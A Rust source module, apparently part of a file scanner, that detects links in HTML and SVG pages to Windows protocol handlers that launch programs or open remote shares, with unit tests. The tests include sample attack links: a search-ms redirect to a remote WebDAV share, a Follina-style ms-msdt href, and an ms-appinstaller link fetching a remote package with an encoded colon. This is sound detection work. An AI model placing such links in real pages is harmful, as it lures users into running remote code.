//! Links in pages (HTML, SVG, HTML applications) to the URL handlers that
//! start programs or open a share without a download prompt: the HTML
//! attachment that sends the browser to
//! `search-ms:query=...&crumb=location:\\host@SSL\DavWWWRoot` (a remote
//! folder dressed as search results), to `ms-msdt:` (Follina), to
//! `ms-officecmd:` or `ms-appinstaller:`. A link counts where a page
//! writes one: inside quotes or after `=` (an attribute, a script's
//! string, a meta refresh's `url=`), read with the page's character
//! references decoded as a browser reads an attribute. Prose that names a
//! scheme is no link. Pure: the links found, no findings here.

use super::ooxml::HANDLERS;

/// One link to a handler.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct HandlerLink {
    /// The scheme, lower case (`search-ms`).
    pub scheme: String,
    /// The link as written, up to its closing quote.
    pub url: String,
}

/// How many links are listed: one is enough to judge.
const MAX_LINKS: usize = 16;

/// The longest scheme looked for.
const MAX_SCHEME: usize = 16;

/// How much of a link is kept.
const MAX_URL: usize = 512;

/// Schemes that run script inside the page itself (`javascript:` links
/// are on every other page), not a program's handler.
const IN_PAGE: &[&str] = &["javascript", "jscript", "vbscript"];

/// The links to handlers in `page`.
pub(crate) fn handler_links(page: &[u8]) -> Vec<HandlerLink> {
    // Character references matter only where they spell a scheme or its
    // colon: most pages are read as they are, without a copy.
    let view = if super::datauri::may_spell_a_character(page) {
        super::datauri::url_view(page)
    } else {
        page.into()
    };
    let page = &view[..];
    let mut out = Vec::new();
    for colon in memchr::memchr_iter(b':', page) {
        if out.len() >= MAX_LINKS {
            break;
        }
        let lo = colon.saturating_sub(MAX_SCHEME + 1);
        let Some(before) = page[lo..colon]
            .iter()
            .rposition(|c| !(c.is_ascii_alphanumeric() || *c == b'-'))
            .map(|i| lo + i)
        else {
            continue;
        };
        let start = before + 1;
        if start == colon || !matches!(page[before], b'"' | b'\'' | b'=' | b'(' | b'`') {
            continue;
        }
        let rest = &page[colon + 1..page.len().min(colon + 1 + MAX_URL)];
        let end = rest
            .iter()
            .position(|c| matches!(c, b'"' | b'\'' | b'`' | b'<' | b'>' | b'\n' | b'\r'))
            .unwrap_or(rest.len());
        // A scheme alone is a link when a string ends there (a script
        // builds the link from it).
        let closed = end < rest.len() && matches!(rest[end], b'"' | b'\'' | b'`');
        let url = &page[start..colon + 1 + end];
        if let Some(scheme) = handler_of(url, closed) {
            out.push(HandlerLink {
                url: String::from_utf8_lossy(url).into_owned(),
                scheme,
            });
        }
    }
    out
}

/// The handler `url` is a link to, when it is one: its scheme (lower
/// case) is a handler's that starts programs or opens a share, no space
/// follows the scheme, and the links of schemes that are also words of
/// any page (`search:`, `its:`, `mk:`: "Search:", "ITS: bug") carry a
/// query or a location, or a help file. `bare` allows the scheme alone.
pub(crate) fn handler_of(url: &[u8], bare: bool) -> Option<String> {
    let colon = memchr::memchr(b':', url)?;
    let scheme = String::from_utf8_lossy(&url[..colon].to_ascii_lowercase()).into_owned();
    if !HANDLERS.contains(&scheme.as_str()) || IN_PAGE.contains(&scheme.as_str()) {
        return None;
    }
    let rest = &url[colon + 1..];
    let shaped = match rest.first() {
        None => bare,
        Some(c) => !c.is_ascii_whitespace(),
    };
    let has = |s: &[u8]| super::ascii::find_ci(rest, s).is_some();
    let specific = match scheme.as_str() {
        "search" => has(b"query=") || has(b"crumb="),
        "its" | "ms-its" | "mk" => has(b".chm") || has(b"@msitstore"),
        _ => true,
    };
    (shaped && specific).then_some(scheme)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn schemes(page: &str) -> Vec<String> {
        handler_links(page.as_bytes())
            .into_iter()
            .map(|l| l.scheme)
            .collect()
    }

    #[test]
    fn links_a_page_follows() {
        let l = handler_links(
            br"<script>window.location.href = 'search-ms:query=Invoice&crumb=location:\\203.0.113.7@SSL\DavWWWRoot\d';</script>",
        );
        assert_eq!(l.len(), 1);
        assert_eq!(l[0].scheme, "search-ms");
        assert!(l[0].url.ends_with(r"DavWWWRoot\d"), "{}", l[0].url);
        assert_eq!(
            schemes(
                "<meta http-equiv=refresh content=\"0; url=SEARCH:query=x&crumb=location:\\\\h\\s\">"
            ),
            ["search"]
        );
        assert_eq!(
            schemes("<a href=\"ms-msdt:/id PCWDiagnostic /skip force\">x</a>"),
            ["ms-msdt"]
        );
        assert_eq!(schemes("open(`ms-officecmd:{}`)"), ["ms-officecmd"]);
        // A character reference for the colon, as a browser reads it.
        assert_eq!(
            schemes("<a href='ms-appinstaller&#58;?source=https://h/a.msix'>"),
            ["ms-appinstaller"]
        );
        // A string the script goes on to build the link from.
        assert_eq!(schemes("var u = \"search-ms:\" + q;"), ["search-ms"]);
        assert_eq!(
            schemes("<a href=\"mk:@MSITStore:\\\\h\\s\\a.chm::/x.htm\">"),
            ["mk"]
        );
    }

    #[test]
    fn prose_and_ordinary_links_are_none() {
        for page in [
            "<p>Windows has a search-ms: protocol.</p>",
            "<label>Search: <input name=q></label>",
            "<a href=\"search:\">Search</a>",
            "<a href=\"javascript:void(0)\">x</a><a href='https://example.com/'>y</a>",
            "a { color: red } b:hover { x: y }",
            "<a href=\"mailto:a@example.com\">mail</a>",
            // Debian's bug pseudo-headers, PCRE's verbs.
            "  \"ITS: package-name\" and (MK: x)",
            "x = 'ms-msdt: ' + y",
        ] {
            assert!(handler_links(page.as_bytes()).is_empty(), "{page}");
        }
        let many = "<a href='ms-msdt:x'>".repeat(100);
        assert_eq!(handler_links(many.as_bytes()).len(), MAX_LINKS);
    }
}
